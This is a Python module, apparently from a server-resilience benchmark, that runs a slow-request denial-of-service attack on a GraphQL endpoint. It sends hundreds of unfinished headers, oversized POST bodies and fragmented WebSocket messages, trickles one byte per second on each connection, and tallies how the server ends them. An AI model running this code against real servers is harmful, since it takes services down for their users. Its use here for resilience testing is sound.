"""Incomplete requests and messages: 300 heads, 200 bodies of 1.9 MB, 50 WebSocket messages of 1.9 MB."""

from __future__ import annotations

import asyncio
import base64
import os
import time
from collections import Counter
from typing import TYPE_CHECKING

from bench.attacks.slow_readers import frame

if TYPE_CHECKING:
    from bench.attacks import Target

HEADS, BODIES, MESSAGES = 300, 200, 50
BODY_BYTES = 1_900_000
SECONDS = 25
HEAD = b"GET /graphql HTTP/1.1\r\nHost: attacker\r\nX-Header: "
POST = (
    b"POST /graphql HTTP/1.1\r\nHost: attacker\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
    % BODY_BYTES
)
UPGRADE = (
    b"GET /graphql HTTP/1.1\r\nHost: attacker\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: graphql-transport-ws\r\nSec-WebSocket-Key: %b\r\n\r\n"
)


async def attack(target: Target) -> str:
    """The outcomes of the connections."""
    ends = Counter(
        await asyncio.gather(
            *(_send_head(target) for _ in range(HEADS)),
            *(_send_body(target) for _ in range(BODIES)),
            *(_send_message(target) for _ in range(MESSAGES)),
        )
    )
    return ", ".join(f"{number} × {end}" for end, number in ends.most_common())


async def _send_head(target: Target) -> str:
    return await _send(target, HEAD)


async def _send_body(target: Target) -> str:
    return await _send(target, POST + b" " * (BODY_BYTES - 10_000))


async def _send_message(target: Target) -> str:
    payload = b" " * 60_000
    fragments = frame(payload, is_last=False) + frame(payload, opcode=0, is_last=False) * (BODY_BYTES // 60_000 - 1)
    return await _send(target, UPGRADE % base64.b64encode(os.urandom(16)), fragments)


async def _send(target: Target, beginning: bytes, after_answer: bytes = b"") -> str:
    """Sends all but the end, and then one byte per second."""
    async with target.connected() as (reader, writer):
        try:
            async with asyncio.timeout(SECONDS):
                writer.write(beginning)
                await writer.drain()
                if after_answer:
                    await reader.readuntil(b"\r\n\r\n")
                    writer.write(after_answer)
                    await writer.drain()
                return await _trickle(reader, writer, b"" if after_answer else b" ")
        except TimeoutError:
            return "open"
        except asyncio.IncompleteReadError:
            return "closed"
        except OSError:
            return "reset"


async def _trickle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, byte: bytes) -> str:
    answer = asyncio.ensure_future(reader.read(4_096))
    try:
        ends_at = time.monotonic() + SECONDS
        while time.monotonic() < ends_at:
            await asyncio.wait([answer], timeout=1)
            if answer.done():
                received = answer.result()
                return received[9:12].decode() if received.startswith(b"HTTP") else "closed"
            writer.write(byte)
            await writer.drain()
        return "open"
    finally:
        answer.cancel()
